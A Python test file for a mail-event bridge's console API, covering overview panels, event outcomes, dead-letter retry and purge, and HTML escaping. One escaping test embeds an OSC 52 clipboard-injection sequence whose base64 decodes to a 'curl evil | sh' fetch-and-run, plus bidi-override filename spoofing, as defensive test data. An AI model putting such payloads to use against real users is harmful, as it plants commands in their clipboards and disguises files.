"""The console's JSON API on a real bridge fed by signed webhooks: the overview's panels, recent
events with their routes and per-sink outcomes (held and from the history), one event's detail,
and the dead letters with the same retry and purge as ``openmail-bridge dlq``."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from conftest import Receiver, running_bridge, signed, wait_until, webhook_of, websocket_of

from bridge.simulator import Simulator
from bridge.supervisor import Supervisor

from .conftest import TOKEN, base_url, console_config

BEARER = {"Authorization": f"Bearer {TOKEN}"}


def body(
    event_id: str, subject: str = "Invoice 42", sender: str = "Ann <ann@example.org>"
) -> bytes:
    return json.dumps(
        {
            "event": "message.received",
            "event_id": event_id,
            "inbox_id": "inb_demo_support",
            "message": {"from": sender, "to": "support@example.org", "subject": subject},
        }
    ).encode()


class Client:
    """One bridge's webhook listener and console API, with the bearer token."""

    def __init__(self, http: aiohttp.ClientSession, sv: Supervisor) -> None:
        self.http, self.sv = http, sv
        self.base = base_url(sv)
        self.hook = f"http://127.0.0.1:{webhook_of(sv).port}/webhooks"

    async def send(self, event_id: str, **fields: str) -> None:
        raw = body(event_id, **fields)
        async with self.http.post(self.hook, data=raw, headers=signed(raw)) as response:
            assert response.status == 200, await response.text()

    async def get(self, path: str) -> Any:
        async with self.http.get(self.base + path, headers=BEARER) as response:
            assert response.status == 200, await response.text()
            return await response.json()

    async def post(self, path: str, data: object) -> tuple[int, Any]:
        async with self.http.post(self.base + path, json=data, headers=BEARER) as response:
            return response.status, await response.json()

    async def event(self, event_id: str) -> dict[str, Any]:
        found: dict[str, Any]
        (found,) = [
            e for e in (await self.get("/api/events"))["events"] if e["event_id"] == event_id
        ]
        return found

    async def outcomes(self, event_id: str) -> dict[str, str]:
        return {o["sink"]: o["outcome"] for o in (await self.event(event_id))["outcomes"]}


@pytest.fixture
async def client(tmp_path: Path, receiver: Receiver) -> AsyncIterator[Client]:
    config = console_config(tmp_path, None, receiver, token=TOKEN)
    async with running_bridge(config) as sv, aiohttp.ClientSession() as http:
        yield Client(http, sv)


async def test_the_overview_shows_header_sources_spool_and_sinks(client: Client) -> None:
    await client.send("evt_overview_1")
    raw = body("evt_overview_2")
    async with client.http.post(
        client.hook, data=raw, headers={**signed(raw), "X-Signature": "0" * 64}
    ):
        pass
    await wait_until(lambda: client.sv.dispatcher.workers["agent"].state.delivered == 1)
    o = await client.get("/api/overview")
    assert o["version"]
    assert o["readiness"] == {
        "state": "ready",
        "reason": "",
        "parts": {"websocket": "disabled", "webhook": "listening", "store": "writable"},
    }
    assert o["sources"]["websocket"] is None
    hook = o["sources"]["webhook"]
    assert hook["listen"] == f"127.0.0.1:{webhook_of(client.sv).port}"
    assert (hook["accepted"], hook["rejected"]) == (1, {"bad_signature": 1})
    spool = o["spool"]
    assert spool["max_bytes"] == client.sv.config.state.max_bytes
    assert spool["min_free"] == client.sv.config.state.min_free
    assert 0 < spool["free_disk"] <= spool["disk_size"]
    sinks = {s["name"]: s for s in o["sinks"]}
    assert set(sinks) == {"agent", "audit"}
    agent = sinks["agent"]
    assert (agent["state"], agent["pending"], agent["dead"], agent["delivered"]) == ("ok", 0, 0, 1)
    assert agent["delivered_per_minute"] == 1


async def test_recent_events_show_routes_and_each_sinks_outcome(
    client: Client, receiver: Receiver
) -> None:
    await client.send("evt_delivered")
    await wait_until(lambda: client.sv.dispatcher.workers["agent"].state.delivered == 1)
    receiver.statuses = [400]
    await client.send("evt_dead")
    await wait_until(lambda: client.sv.dispatcher.workers["agent"].state.dead_recorded == 1)
    receiver.up = False  # 503: retried until it comes back
    await client.send("evt_retrying")

    async def retrying() -> bool:
        return (await client.outcomes("evt_retrying"))["agent"] == "retrying"

    await wait_until(retrying)
    events = (await client.get("/api/events"))["events"]
    assert [e["event_id"] for e in events] == ["evt_retrying", "evt_dead", "evt_delivered"]
    delivered, dead_one, retried = events[2], events[1], events[0]
    assert delivered["completed_at"] is not None  # from the history
    assert delivered["routes"] == ["everything"]
    assert delivered["source"] == "webhook"
    assert {o["sink"]: o["outcome"] for o in delivered["outcomes"]} == {
        "agent": "delivered",
        "audit": "delivered",
    }
    assert "content" not in delivered  # admin.show_content is off
    (agent,) = [o for o in dead_one["outcomes"] if o["sink"] == "agent"]
    assert (agent["outcome"], agent["attempts"]) == ("dead", 1)
    assert "HTTP 400" in agent["error"]
    (agent,) = [o for o in retried["outcomes"] if o["sink"] == "agent"]
    assert agent["attempts"] >= 1
    assert (await client.get("/api/events?limit=1"))["events"][0]["event_id"] == "evt_retrying"
    receiver.up = True


async def test_one_events_detail_holds_its_attempts(client: Client, receiver: Receiver) -> None:
    receiver.statuses = [503, 400]
    await client.send("evt_detail")
    await wait_until(lambda: client.sv.dispatcher.workers["agent"].state.dead_recorded == 1)
    detail = await client.get("/api/events/evt_detail")
    assert detail["event_id"] == "evt_detail"
    kinds = [(a["kind"], a["sink"], a["attempt"]) for a in detail["activity"]]
    assert ("accepted", None, None) in kinds
    assert ("retrying", "agent", 1) in kinds
    assert ("dead", "agent", 2) in kinds
    assert detail["earlier"] == []
    async with client.http.get(client.base + "/api/events/evt_nope", headers=BEARER) as response:
        assert response.status == 404
    for bad in ("0", "101", "x"):
        async with client.http.get(client.base + f"/api/events?limit={bad}", headers=BEARER) as r:
            assert r.status == 400, bad


async def test_dead_letters_are_listed_retried_and_purged_like_the_dlq_command(
    client: Client, receiver: Receiver
) -> None:
    receiver.statuses = [400, 400]
    await client.send("evt_dead_1")
    await client.send("evt_dead_2")
    await wait_until(lambda: client.sv.dispatcher.workers["agent"].state.dead == 2)
    (agent,) = (await client.get("/api/dead"))["sinks"]
    assert (agent["sink"], agent["count"]) == ("agent", 2)
    assert [i["event_id"] for i in agent["items"]] == ["evt_dead_2", "evt_dead_1"]
    assert all("HTTP 400" in i["error"] for i in agent["items"])

    assert await client.post("/api/dead/retry", {"sink": "agent", "event_id": "evt_dead_1"}) == (
        200,
        {"retried": 1},
    )
    await wait_until(lambda: "evt_dead_1" in receiver.accepted_ids())
    assert await client.post("/api/dead/purge", {"sink": "agent"}) == (200, {"purged": 1})
    assert (await client.get("/api/dead"))["sinks"] == []
    assert "evt_dead_2" not in receiver.accepted_ids()

    status, answer = await client.post("/api/dead/retry", {"sink": "nope"})
    assert status == 404
    assert answer["sinks"] == ["agent", "audit"]
    for bad in ({}, {"sink": 3}, {"sink": "agent", "event_id": 7}, ["agent"]):
        status, _ = await client.post("/api/dead/retry", bad)
        assert status == 400, bad


async def test_content_is_shown_only_with_show_content(tmp_path: Path, receiver: Receiver) -> None:
    config = console_config(tmp_path, None, receiver, token=TOKEN, show_content=True)
    async with running_bridge(config) as sv, aiohttp.ClientSession() as http:
        client = Client(http, sv)
        await client.send("evt_content", subject="<b>Hello</b> & bye", sender="Bo <bo@example.org>")
        event = await client.event("evt_content")
        assert event["content"] == {"from": "Bo <bo@example.org>", "subject": "<b>Hello</b> & bye"}
        async with http.get(client.base + "/", headers=BEARER) as response:
            page = await response.text()
        assert "&lt;b&gt;Hello&lt;/b&gt; &amp; bye" in page
        assert "<b>Hello" not in page


async def test_a_subject_ending_in_half_an_emoji_still_shows_the_page(
    tmp_path: Path, receiver: Receiver
) -> None:
    config = console_config(tmp_path, None, receiver, token=TOKEN, show_content=True)
    async with running_bridge(config) as sv, aiohttp.ClientSession() as http:
        client = Client(http, sv)
        await client.send("evt_cut", subject="Cut at the cap \ud83d")  # legal JSON, not UTF-8
        assert (await client.event("evt_cut"))["content"]["subject"] == "Cut at the cap ?"
        async with http.get(client.base + "/", headers=BEARER) as response:
            assert response.status == 200
            assert "Cut at the cap ?" in await response.text()


UNSHOWN = "\x1b\x07\x00\u202e\u2066\u2067\u2068\u2069"
"""Characters that drive a terminal or reorder text: ESC, BEL, NUL, the bidi override and
isolates."""


async def test_control_and_bidi_characters_in_content_show_as_escapes_on_the_page(
    tmp_path: Path, receiver: Receiver
) -> None:
    config = console_config(tmp_path, None, receiver, token=TOKEN, show_content=True)
    # An OSC 52 clipboard write, a NUL, a file name written backwards, the four isolates.
    subject = "Invoice \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 due\x00 \u202efdp.exe"
    subject += "\u2066a\u2067b\u2068c\u2069"
    sender = "Eve \u202e<gro.elpmaxe@eve>\x1b[2J"
    async with running_bridge(config) as sv, aiohttp.ClientSession() as http:
        client = Client(http, sv)
        await client.send("evt_controls", subject=subject, sender=sender)
        # The API gives the data as it is (JSON escapes every control character on the wire).
        event = await client.event("evt_controls")
        assert event["content"] == {"from": sender, "subject": subject}
        async with http.get(client.base + "/", headers=BEARER) as response:
            page = await response.text()
    assert [c for c in UNSHOWN if c in page] == []
    assert "Invoice \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 due\\x00 \\u202efdp.exe" in page
    assert "\\u2066a\\u2067b\\u2068c\\u2069" in page
    assert "Eve \\u202e&lt;gro.elpmaxe@eve&gt;\\x1b[2J" in page


async def test_a_rejected_key_is_named_in_the_sources_panel(
    tmp_path: Path, sim: Simulator, receiver: Receiver
) -> None:
    config = console_config(tmp_path, sim, receiver, token=TOKEN)
    async with running_bridge(config) as sv, aiohttp.ClientSession() as http:
        client = Client(http, sv)
        await wait_until(lambda: websocket_of(sv).receiving)
        sim.refuse(60, mode="close", code=4001)  # OpenMail: the key is no longer valid
        await sim.disconnect(1001)

        async def shown() -> str:
            return str((await client.get("/api/overview"))["sources"]["websocket"]["state"])

        async def rejected() -> bool:
            return await shown() == "rejected key"

        await wait_until(rejected)
        o = await client.get("/api/overview")
        assert o["readiness"]["state"] == "degraded"
        assert o["readiness"]["reason"].startswith("websocket ")
        assert o["sources"]["websocket"]["reconnects"] >= 1
